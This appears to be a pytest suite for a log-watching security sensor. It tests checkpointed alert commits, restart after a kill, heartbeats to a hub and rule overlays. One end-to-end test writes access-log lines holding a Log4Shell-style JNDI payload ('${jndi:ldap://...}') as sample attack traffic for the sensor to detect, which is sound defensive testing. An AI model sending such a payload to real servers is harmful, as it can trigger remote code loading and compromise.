"""The loop that owns time: gathers, commits with the checkpoint, ships, beats, stops, and picks up after a kill."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import Executor
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.contract.sink_suite import unpacked
from tests.sensor.support.alerts import alert
from tests.sensor.support.clock import FakeClock
from tests.sensor.support.detectors import ListDetector, dns_hits
from tests.sensor.support.http_server import Request, Response, Scripted, serve
from tests.sensor.support.packs import dns_hit, pack_bytes
from tests.sensor.support.rules import ROOT, vigla_pack
from tests.sensor.support.sinks import InlineExecutor, ScriptedSink, created
from vigla_sensor.alert import Composer, Identity, Pack
from vigla_sensor.clock import SystemClock
from vigla_sensor.config import parse
from vigla_sensor.deliver.answers import Silence
from vigla_sensor.deliver.http import Fault, Reply
from vigla_sensor.run import StartFault, run_live
from vigla_sensor.run.heartbeats import Heartbeats, content
from vigla_sensor.run.live import Loop
from vigla_sensor.run.shipping import Shipping
from vigla_sensor.spool import Fate, Limits, Settlement, Spool, open_spool, read_status

__all__ = ["vigla_pack"]
LIMITS = Limits(min_free_bytes=0, ballast_bytes=0)


def parts(folder: Path, detector: ListDetector, sink: ScriptedSink) -> tuple[Loop, Spool]:
    clock = TickingClock()
    spool = open_spool(folder / "spool.db", (sink.name,), clock, LIMITS)
    executor: Executor = InlineExecutor()
    shipping = Shipping([sink], spool, clock, executor)
    identity = Identity.of("kalamata-1", "", ("kalamata", "Δήμος Καλαμάτας"), "0.1.0", ())
    composer = Composer(Pack.read(pack_bytes()), identity, clock.now)
    return Loop(detector, composer, spool, shipping, clock), spool


class TickingClock(FakeClock):
    """Moves a little with each look, so that waiting ends."""

    def monotonic(self) -> float:
        self.advance(0.01)
        return super().monotonic()


def test_a_turn_commits_alerts_with_the_checkpoint_behind_them(tmp_path: Path) -> None:
    sink = ScriptedSink(created)
    loop, spool = parts(tmp_path, ListDetector(dns_hits(1200), endless=True), sink)
    seen = []
    for _ in range(3):
        loop.turn()
        seen.append((int(spool.checkpoint or b"0"), read_status(tmp_path / "spool.db").last_number))
    assert seen == [(500, 500), (1000, 1000), (1200, 1200)]
    for _ in range(40):
        loop.turn()
    assert spool.pending() == 0
    spool.close()


def test_after_a_restart_the_detector_goes_on_at_the_checkpoint(tmp_path: Path) -> None:
    hits = dns_hits(700)
    loop, spool = parts(tmp_path, ListDetector(hits, endless=True), ScriptedSink(created))
    loop.turn()
    spool.close()
    sink = ScriptedSink(created)
    checkpoint = b"500"
    loop, spool = parts(tmp_path, ListDetector(hits, checkpoint, endless=True), sink)
    assert spool.checkpoint == checkpoint
    for _ in range(40):
        loop.turn()
    ids = [each.event_id for batch in sink.sent for each in batch]
    assert sorted(set(ids)) == sorted(f"{n:032x}" for n in range(700))
    assert read_status(tmp_path / "spool.db").repeated == 0
    spool.close()


def test_a_hit_that_cannot_be_composed_costs_no_other(tmp_path: Path) -> None:
    loop, spool = parts(tmp_path, ListDetector([b"{", dns_hit(), b"[]"]), ScriptedSink(created))
    loop.turn()
    assert loop.bad_hits == 2
    assert read_status(tmp_path / "spool.db").last_number == 1
    spool.close()


def test_stopping_keeps_what_was_found(tmp_path: Path) -> None:
    detector = ListDetector(dns_hits(1300), endless=True)
    loop, spool = parts(tmp_path, detector, ScriptedSink(created))
    loop.turn()
    loop.close()
    assert detector.stopped
    assert int(spool.checkpoint or b"0") == 1300
    spool.close()


@dataclass
class FakeHub:
    """A transport that answers heartbeats."""

    reply: Reply | Exception = field(default_factory=lambda: Reply(200, {}, b'{"jobs": [], "overlay": null}'))
    bodies: list[dict[str, object]] = field(default_factory=list)

    def post(self, path: str, body: bytes, headers: object) -> Reply:
        assert path == "/ingest/v1/heartbeat"
        self.bodies.append(json.loads(body))
        if isinstance(self.reply, Exception):
            raise self.reply
        return self.reply

    def close(self) -> None:
        """Nothing is open."""


@pytest.fixture
def beating(tmp_path: Path) -> Iterator[tuple[Heartbeats, FakeHub, FakeClock, Spool, "Beat"]]:
    clock, hub, sink = FakeClock(), FakeHub(), ScriptedSink(created)
    spool = open_spool(tmp_path / "spool.db", ("hub",), clock, LIMITS)
    shipping = Shipping([sink], spool, clock, InlineExecutor())
    beats = Heartbeats("kalamata-1", 60.0, hub, lambda: "secret", InlineExecutor(), clock)
    beat = Beat(beats, spool, shipping, clock, tmp_path / "spool.db")
    yield beats, hub, clock, spool, beat
    spool.close()


@dataclass
class Beat:
    beats: Heartbeats
    spool: Spool
    shipping: Shipping
    clock: FakeClock
    path: Path

    def __call__(self) -> bytes | None:
        pack = Pack.read(pack_bytes())

        def now() -> object:
            status = read_status(self.path)
            return content("kalamata-1", self.beats.started, pack, self.clock, {"events": 7}, status, self.shipping)

        return self.beats.tick(now, lambda: read_status(self.path), self.spool)  # type: ignore[arg-type]


Beating = tuple[Heartbeats, FakeHub, FakeClock, Spool, Beat]


def test_the_heartbeat_goes_each_minute_and_explains_every_number(beating: Beating) -> None:
    _, hub, clock, spool, beat = beating
    spool.accept([alert(f"{n}") for n in range(4)])
    spool.settle("hub", [Settlement(1, Fate.DELIVERED), Settlement(2, Fate.ALREADY_THERE)])
    beat()
    beat()
    (body,) = hub.bodies
    sink = body["sinks"]["hub"]  # type: ignore[index]
    assert sink["settled"] == spool.sequence(2)
    assert sink["ranges"] == {"already_there": [[spool.sequence(2), spool.sequence(2)]]}
    assert sink["state"] == "flowing"
    assert body["counters"] == {"events": 7}
    assert body["spool"]["violations"] == []  # type: ignore[index]
    assert len(json.dumps(body)) < 64 * 1024
    clock.advance(61)
    beat()
    assert len(hub.bodies) == 2
    # Told once, and then forgotten.
    assert hub.bodies[1]["sinks"]["hub"]["ranges"] == {}  # type: ignore[index]


@pytest.mark.parametrize("fault", [Reply(503, {}, b""), OSError("gone"), Fault(Silence.CONNECT, "x")])
def test_a_heartbeat_that_fails_forgets_nothing(beating: Beating, fault: Reply | Exception) -> None:
    _, hub, clock, spool, beat = beating
    spool.accept([alert("a")])
    spool.settle("hub", [Settlement(1, Fate.ALREADY_THERE)])
    hub.reply = fault
    beat()
    beat()
    clock.advance(61)
    hub.reply = Reply(200, {}, b"{}")
    beat()
    assert hub.bodies[1]["sinks"]["hub"]["ranges"] != {}  # type: ignore[index]


def test_the_answer_carries_the_overlay(beating: Beating) -> None:
    _, hub, _, _, beat = beating
    hub.reply = Reply(200, {}, b'{"overlay": {"disabled": ["x"]}}')
    assert beat() is None
    assert json.loads(beat() or b"") == {"disabled": ["x"]}


@pytest.mark.parametrize(
    ("config", "says"),
    [
        ("", "pack.path is not configured"),
        ('[pack]\npath = "none.vpk"\n', "nothing to watch"),
        ('[pack]\npath = "none.vpk"\n[[files]]\npath = "x"\n', "none.vpk: the pack cannot be read"),
    ],
)
def test_it_refuses_to_start_rather_than_run_blind(config: str, says: str) -> None:
    head = '[sensor]\nid = "k-1"\norganization = {id = "kalamata", name = "Κ"}\n'
    with pytest.raises(StartFault, match=says):
        run_live(parse(head + config), FakeClock(), lambda *_: ListDetector([]))


def _hub(request: Request) -> Response:
    if request.path.endswith("heartbeat"):
        return Response(200, b"{}")
    ids = [json.loads(line)["event"]["id"] for line in unpacked(request).splitlines()]
    return Response(200, json.dumps({"items": [{"id": each, "result": "created"} for each in ids]}).encode())


def _received(hub: Scripted) -> list[str]:
    sent = [each for each in hub.requests if each.path.endswith("alerts")]
    return [json.loads(line)["event"]["id"] for each in sent for line in unpacked(each).splitlines()]


def _wait(ready: object, seconds: float = 60.0) -> None:
    deadline = time.monotonic() + seconds
    while not ready():  # type: ignore[operator]
        assert time.monotonic() < deadline, "it did not happen in time"
        time.sleep(0.05)


def test_a_real_sensor_follows_a_log_survives_a_kill_and_stops_cleanly(vigla_pack: Path, tmp_path: Path) -> None:
    log = tmp_path / "access.log"
    log.touch()
    now = datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    line = f'198.51.100.9 - - [{now}] "GET /?x=${{jndi:ldap://203.0.113.77/%d}} HTTP/1.1" 200 5120 "-" "Mozilla/5.0"\n'

    def write(numbers: range) -> None:
        with log.open("a", encoding="utf-8") as out:
            out.writelines(line % n for n in numbers)

    with serve(_hub) as hub:
        (tmp_path / "key").write_text("secret", encoding="utf-8")
        (tmp_path / "sensor.toml").write_text(
            f"""
heartbeat_seconds = 1
[sensor]
id = "kalamata-1"
organization = {{id = "kalamata", name = "Δήμος Καλαμάτας"}}
[pack]
path = "{vigla_pack}"
[[files]]
path = "access.log"
[spool]
path = "spool.db"
min_free_bytes = 0
[sinks.hub]
url = "{hub.url}"
credential = "file:key"
""",
            encoding="utf-8",
        )
        command = [sys.executable, "-m", "vigla_sensor", "run", "--config", str(tmp_path / "sensor.toml")]
        first = subprocess.Popen(command, env={**os.environ}, cwd=ROOT, stderr=subprocess.DEVNULL)
        _wait(lambda: any(each.path.endswith("heartbeat") for each in hub.requests))
        write(range(5))
        _wait(lambda: len(set(_received(hub))) >= 5)
        first.send_signal(signal.SIGKILL)
        first.wait()
        write(range(5, 10))
        second = subprocess.Popen(command, env={**os.environ}, cwd=ROOT, stderr=subprocess.PIPE)
        try:
            _wait(lambda: len(set(_received(hub))) >= 10)
            second.send_signal(signal.SIGTERM)
            _, said = second.communicate(timeout=60)
        finally:
            second.kill()
        assert second.returncode == 0, said
    assert len(set(_received(hub))) == 10
    assert read_status(tmp_path / "spool.db").violations == ()


class _Picky(ListDetector):
    """Refuses every overlay, as after a pack that dropped the rules it names."""

    def overlay(self, document: bytes) -> None:
        raise ValueError("unknown rule x")


@pytest.mark.parametrize("kind", [ListDetector, _Picky])
def test_the_hubs_last_overlay_outlives_a_restart_and_never_keeps_from_sensing(
    tmp_path: Path, kind: type[ListDetector]
) -> None:
    (tmp_path / "key").write_text("secret", encoding="utf-8")
    (tmp_path / "vigla.vpk").write_bytes(pack_bytes())
    text = (
        '[sensor]\nid = "k-1"\norganization = {id = "kalamata", name = "Κ"}\n[pack]\npath = "vigla.vpk"\n'
        '[[files]]\npath = "x.log"\n[spool]\npath = "spool.db"\nmin_free_bytes = 0\n'
        '[sinks.hub]\nurl = "URL"\ncredential = "file:key"\n'
    )
    overlay = b'{"overlay": {"disabled": ["x"]}}'
    with serve(lambda request: Response(200, overlay) if "heartbeat" in request.path else _hub(request)) as hub:
        settings = parse(text.replace("URL", hub.url), base=tmp_path)
        first = ListDetector(dns_hits(2), endless=True)
        made = _until(lambda: bool(first.overlays), first)
        assert run_live(settings, SystemClock(), lambda *_: made) == 0
        assert [json.loads(each) for each in first.overlays] == [{"disabled": ["x"]}]
        second = kind([])
        assert run_live(settings, SystemClock(), lambda *_: second) == 0
    assert kind is _Picky or [json.loads(each) for each in second.overlays] == [{"disabled": ["x"]}]


def _until(done: Callable[[], bool], detector: ListDetector) -> ListDetector:
    """The detector, which ends by itself when `done`."""
    poll = detector.poll

    def ending(most: int, timeout: float = 0.0) -> object:
        time.sleep(0.01)
        detector.stopped = detector.stopped or done()
        return poll(most, timeout)

    detector.poll = ending  # type: ignore[method-assign,assignment]
    return detector
